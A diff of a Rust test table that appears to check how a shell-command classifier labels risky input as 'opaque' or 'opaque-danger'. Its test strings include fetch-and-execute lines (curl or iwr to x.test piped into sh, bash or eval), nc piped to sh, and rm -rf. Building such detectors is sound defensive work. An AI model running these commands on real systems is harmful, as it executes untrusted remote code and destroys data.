@@ -332,7 +332,7 @@ mod tests {
         for (command, expected) in [
             ("rm a.py\ncreate a.py\nx = (\"y\nz(1)", "shell/opaque"),
             ("echo a\nrm -rf b 'c", "shell/opaque-danger"),
-            ("iex (iwr https://x.test/a.ps1)", "shell/opaque-danger"),
+            ("launch (curl https://x.test/a; sh", "shell/opaque-danger"),
             ("curl file:///srv/a.sh | bash", "shell/opaque"),
             ("nc -z x.test 80 | sh", "shell/opaque"),
             ("curl https://x.test | eval \"$X\"", "shell/opaque-danger"),
